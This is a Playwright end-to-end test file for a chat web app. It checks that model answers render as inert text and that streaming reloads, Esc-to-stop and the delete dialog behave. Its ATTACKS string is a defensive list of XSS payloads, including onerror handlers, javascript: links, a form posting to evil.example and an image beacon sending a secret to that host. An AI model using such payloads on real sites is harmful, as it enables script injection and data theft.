"""The chat page in a real Chromium over a real web server: answers stay text, a reload attaches again, Esc stops."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, Route

from tests.browsing import log_in, own_chromium, own_processes
from tests.cast import Cast
from tests.e2e.site import free_port
from tests.make import make_adapter, make_base, make_conversation, make_turn
from tests.processes import wait_for
from webapp.adapters.models import BaseModel
from webapp.chat import lifecycle
from webapp.chat.models import Completion, Conversation
from webapp.chat.sampling import Sampling

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("live_streams")]

ATTACKS = """# Heading

<img src=x onerror="window.pwned=1"><svg onload="window.pwned=2"></svg><script>window.pwned=3</script>
<style>body{display:none}</style><form action="https://evil.example/"><input name=a></form><iframe src="//evil.example">

[one](javascript:window.pwned=4) [two](data:text/html,<script>window.pwned=5</script>) [three](vbscript:x) [ok](https://example.com/)
![beacon](https://evil.example/?q=secret) ![x](data:image/svg+xml,<svg/onload=window.pwned=6>) <https://example.org>

`</code><img src=x onerror=window.pwned=7>` **bold <b onmouseover=window.pwned=8>x</b>**
&lt;img src=x onerror=window.pwned=9&gt;

```html"><img src=x onerror=window.pwned=10>
</pre></code><script>window.pwned=11</script>
```

| a | b |
|---|---|
| <a href="javascript:window.pwned=12" style="position:fixed;inset:0">x</a> | </td><td onclick=window.pwned=13> |

$$\\href{javascript:window.pwned=14}{x}$$ <math><mtext><table><mglyph><style><img src=x onerror=window.pwned=15>

``` unclosed fence <script>window.pwned=16</script>"""

WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => window.violations.push(event.violatedDirective));
"""


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with own_chromium() as browser:
        yield browser


@pytest.fixture(scope="module")
def site(broker: str, tmp_path_factory: pytest.TempPathFactory, django_db_setup: None) -> Iterator[str]:
    """Its address."""
    with own_processes(tmp_path_factory.mktemp("site"), REDIS_URL=broker) as running:
        yield running.web(free_port())


@pytest.fixture
def page(chromium: Browser, cast: Cast, site: str) -> Iterator[Page]:
    """Alice's browser, logged in; it notes dialogs, requests to strangers and violations of the policy."""
    context = chromium.new_context(base_url=site)
    log_in(context, cast, site, who="alice")
    page = context.new_page()
    page.add_init_script(WATCH)
    dialogs, strangers = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda one: None if one.url.startswith(site) else strangers.append(one.url))
    yield page
    assert page.evaluate("window.violations") == []
    assert dialogs == strangers == []
    context.close()


@pytest.fixture
def conversation(cast: Cast, base: BaseModel) -> Conversation:
    return make_conversation(cast.team, cast.alice, base, sampling=Sampling(max_tokens=64).to_dict())


def test_what_a_model_writes_stays_text(page: Page, conversation: Conversation) -> None:
    make_turn(conversation, text=ATTACKS, label='"><script>window.pwned=20</script>', message=ATTACKS)
    page.goto(f"/chat/{conversation.pk}/")
    page.wait_for_selector(".markdown")
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None
    answer = page.locator("[data-text]")
    tags = set(answer.evaluate("e => [...e.querySelectorAll('*')].map(x => x.tagName)"))
    assert not tags & {"IMG", "SVG", "SCRIPT", "STYLE", "FORM", "INPUT", "IFRAME", "MATH"}
    links = answer.evaluate("e => [...e.querySelectorAll('a')].map(x => x.getAttribute('href'))")
    assert {link for link in links if link} == {"https://example.com/", "https://example.org"}
    names = answer.evaluate("e => [...e.querySelectorAll('*')].flatMap(x => x.getAttributeNames())")
    assert set(names) <= {"href", "title", "start", "target", "rel", "tabindex"}
    assert "onerror" in answer.inner_text()  # shown as it was written
    assert page.locator(".markdown h1").inner_text() == "Heading"


def test_without_the_markdown_library_answers_are_plain_text(page: Page, conversation: Conversation) -> None:
    page.route("**/marked.umd*.js", lambda route: route.abort())
    make_turn(conversation, text="**bold** <img src=x onerror=window.pwned=1>")
    page.goto(f"/chat/{conversation.pk}/")
    assert page.locator("[data-text]").inner_text() == "**bold** <img src=x onerror=window.pwned=1>"


def test_a_reload_attaches_to_the_answer_that_is_written(page: Page, conversation: Conversation) -> None:
    answer = make_turn(conversation, status="streaming", text="Half an answ").completions.get()
    page.goto(f"/chat/{conversation.pk}/")
    wait_for(lambda: page.locator("[data-text]").inner_text() == "Half an answ")
    assert page.locator("[data-turns]").get_attribute("aria-busy") == "true"
    Completion.objects.update(text="Half an answer, and")
    wait_for(lambda: page.locator("[data-text]").inner_text() == "Half an answer, and", seconds=10)
    page.reload()
    lifecycle.finish(answer.pk, "Half an answer, and **all**.", {"tokens": 7, "tokens_per_second": 28.1})
    wait_for(lambda: page.locator(".markdown strong").count() == 1, seconds=10)
    assert page.locator("[data-numbers]").inner_text() == "7\u00a0tokens\u00a0· 28.1\u00a0tok/s"
    assert page.locator("[data-turns]").get_attribute("aria-busy") == "false"


class Refusals:
    """Answers in the server's place with one status, on which browsers give a stream up; notes what was asked."""

    def __init__(self, page: Page, status: int, pattern: str, *, methods: tuple[str, ...] = ("GET",)) -> None:
        self.count = 0
        self._page, self._status, self._pattern, self._methods = page, status, pattern, methods
        page.route(pattern, self._answer)

    def _answer(self, route: Route) -> None:
        if route.request.method not in self._methods:
            route.continue_()
            return
        self.count += 1
        route.fulfill(status=self._status, body="Bad gateway", content_type="text/html")

    def wait_for(self, count: int) -> None:
        for _ in range(500):
            if self.count >= count:
                return
            self._page.wait_for_timeout(20)  # Playwright answers routes only while it is asked for something
        pytest.fail(f"{self._pattern}: {self.count} requests, not {count}")

    def end(self) -> None:
        self._page.unroute(self._pattern, self._answer)


def test_a_proxy_without_its_server_is_outlived(page: Page, conversation: Conversation) -> None:
    answer = make_turn(conversation, status="streaming", text="Half").completions.get()
    page.clock.install()
    streams = Refusals(page, 502, "**/events/")
    itself = Refusals(page, 502, f"**/chat/{conversation.pk}/", methods=("HEAD",))
    page.goto(f"/chat/{conversation.pk}/")
    page.evaluate("window.sameOne = true")
    for number in (1, 2, 3):
        streams.wait_for(number)
        page.clock.fast_forward(3_000)
    itself.wait_for(2)
    assert page.locator("[data-answer]").get_attribute("aria-busy") == "true"
    streams.end()
    itself.end()
    lifecycle.finish(answer.pk, "Half, and whole.", {"tokens": 4})
    page.clock.fast_forward(3_000)
    wait_for(lambda: page.locator("[data-answer]").get_attribute("aria-busy") == "false", seconds=10)
    assert page.locator("[data-text]").inner_text() == "Half, and whole."
    assert page.evaluate("window.sameOne") is True


def test_a_stream_that_is_refused_for_good_reloads_the_page_once(page: Page, conversation: Conversation) -> None:
    make_turn(conversation, status="streaming", text="Half")
    page.clock.install()
    loads: list[str] = []
    page.on("load", lambda _: loads.append(page.url))
    streams = Refusals(page, 404, "**/events/")
    page.goto(f"/chat/{conversation.pk}/")
    streams.wait_for(1)
    page.clock.fast_forward(3_000)
    streams.wait_for(3)  # refused for the second time, the page was loaded anew and asked for the third
    assert len(loads) == 2
    for number in (4, 5):
        page.clock.fast_forward(3_000)
        streams.wait_for(number)
        page.wait_for_timeout(200)  # in which it would be loaded
    assert len(loads) == 2


@pytest.mark.parametrize("width", [1280, 390])
def test_the_head_of_an_answer_is_two_even_lines(
    page: Page, cast: Cast, conversation: Conversation, width: int
) -> None:
    numbers = {"tokens": 110, "tokens_per_second": 15.8, "first_token_ms": 594}
    turn = make_turn(conversation, text="Blue.", numbers=numbers)
    Completion.objects.create(turn=turn, place=1, label="style", text="Red.", status="finished", numbers=numbers)
    page.set_viewport_size({"width": width, "height": 700})
    page.goto(f"/chat/{conversation.pk}/")
    heads = page.locator(".answer-head")
    assert heads.count() == 2
    for number in range(2):
        title, line, button = (
            heads.nth(number).locator(part).bounding_box() for part in ("h3", "[data-numbers]", "button")
        )
        assert title
        assert line
        assert button
        assert abs(title["y"] + title["height"] / 2 - button["y"] - button["height"] / 2) < 1.5
        assert line["height"] < 20


def test_enter_asks_and_escape_stops(page: Page, cast: Cast, conversation: Conversation) -> None:
    page.goto(f"/chat/{conversation.pk}/")
    page.fill("textarea[name=message]", "First line")
    page.press("textarea[name=message]", "Shift+Enter")
    page.type("textarea[name=message]", "second")
    page.reload()
    assert page.input_value("textarea[name=message]") == "First line\nsecond"  # the draft was kept
    page.press("textarea[name=message]", "Enter")
    page.wait_for_selector("[data-answer]")
    assert page.locator(".question p").inner_text() == "First line\nsecond"
    assert page.input_value("textarea[name=message]") == ""
    page.keyboard.press("Escape")
    wait_for(lambda: page.locator("[data-state]").inner_text() == "Stopped", seconds=10)
    assert Completion.objects.get().status == "stopped"
    page.click("text=Ask again")
    wait_for(lambda: Completion.objects.get().status == "queued")


def test_an_error_keeps_what_was_typed(page: Page, conversation: Conversation) -> None:
    page.goto(f"/chat/{conversation.pk}/")
    page.fill("textarea[name=message]", "cat " * 1000)
    page.press("textarea[name=message]", "Enter")
    page.wait_for_selector("[data-errors] .notice")
    assert "the model reads 512" in page.locator("[data-errors]").inner_text()
    assert page.input_value("textarea[name=message]").startswith("cat cat")
    assert page.locator("[data-answer]").count() == 0


def test_the_picker_keeps_to_four_on_one_base(page: Page, cast: Cast, base: BaseModel) -> None:

    other = make_base(name="other")
    for number in range(9):
        make_adapter(cast.team, base, name=f"adapter {number}")
    page.goto(f"/chat/?base={base.pk}")
    boxes = page.locator(f'[data-base="{base.pk}"] input')
    for number in range(1, 4):
        boxes.nth(number).check()
    assert page.locator("[data-targets] input:disabled").count() == 6
    page.fill("[data-target-search]", "adapter 0")
    assert page.locator(".target[data-name]:visible").count() == 4  # the one found, and the three chosen
    page.locator(f'[data-base="{other.pk}"] input').check()
    assert page.locator("input[name=target]:checked").count() == 1


def test_deleting_asks_first(page: Page, conversation: Conversation) -> None:
    page.goto(f"/chat/{conversation.pk}/")
    page.click("[aria-label='Delete this conversation']")
    page.click("#delete >> text=Cancel")
    assert Conversation.objects.exists()
    page.click("[aria-label='Delete this conversation']")
    page.click("#delete button[type=submit]")
    page.wait_for_url("**/chat/")
    assert not Conversation.objects.exists()
